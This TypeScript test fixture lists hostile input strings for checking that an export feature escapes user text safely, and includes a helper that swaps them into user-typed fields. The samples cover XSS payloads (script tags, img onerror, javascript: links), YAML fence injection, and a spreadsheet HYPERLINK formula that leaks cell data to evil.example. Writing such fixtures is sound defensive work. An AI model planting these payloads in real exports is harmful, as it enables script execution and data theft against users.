/**
 * Hostile text: what someone could type into a note, a name or a title to break an export —
 * Markdown and HTML injection, front-matter fences, spreadsheet formulas, every kind of line
 * break, quotes and separators, and unicode that trips naive code (emoji sequences, RTL,
 * combining marks, CJK, bidi overrides, NUL).
 */

export const hostileTexts: readonly string[] = [
  '<script>alert("x")</script>',
  '[click me](javascript:alert(1))',
  '# Not a heading',
  '| not | a | table |',
  '`code` and ```fence```',
  '---\nstatus: hacked\n---',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  'line one\nline two\r\nline three\rline four',
  'She said "yes", then: no; maybe',
  'Emoji 🎉👩🏽‍💻, RTL שלום עולם مرحبا, CJK 決定事項, combining é̃ and z̴̢',
  '![x](https://evil.example/x.png) **bold** _em_ ~~gone~~ <img src=x onerror=alert(1)> &amp;',
  '1. ordered\n- bullet\n> quote\n    indented code\n===',
  'ends with a backslash \\',
  '<!-- hidden --> $x^2$ [^1] [ref]: javascript:alert(1)',
  'title: "quoted" # not yaml\n...\n---',
  '\u202Eexe.txt \u0000nul \u2028line-sep \u0085nel',
]

/** Fields that are ids, enums, dates or numbers: structure, not text people type. */
const structural = new Set([
  'template',
  'id',
  'shapeId',
  'ownerId',
  'memberId',
  'deciderId',
  'key',
  'role',
  'due',
  'status',
  'outcome',
  'scale',
  'ranking',
  'value',
  'at',
  'date',
])

/**
 * [HT] The same value with every text people type replaced by hostile text, taken in turn from
 * `hostileTexts` (so the output is the same on every run). Ids, enums, dates and numbers stay.
 */
export function hostile<T>(value: T): T {
  let next = 0
  const text = () => hostileTexts[next++ % hostileTexts.length] as string
  const walk = (v: unknown, key: string | null): unknown => {
    if (typeof v === 'string') return key !== null && structural.has(key) ? v : text()
    if (Array.isArray(v)) return v.map((item) => walk(item, key))
    if (typeof v === 'object' && v !== null)
      return Object.fromEntries(Object.entries(v).map(([k, item]) => [k, walk(item, k)]))
    return v
  }
  return walk(value, null) as T
}

/**
 * Markdown with the web autolinks (rec:MD9) taken out: what is left of a hostile text must hold
 * no `<` or `>` at all — no tag, comment or other autolink.
 */
export const withoutWebAutolinks = (markdown: string) =>
  markdown.replace(/<https?:\/\/[A-Za-z0-9\-._~:/?#@!$&'()*+,;=%]+>/g, '')
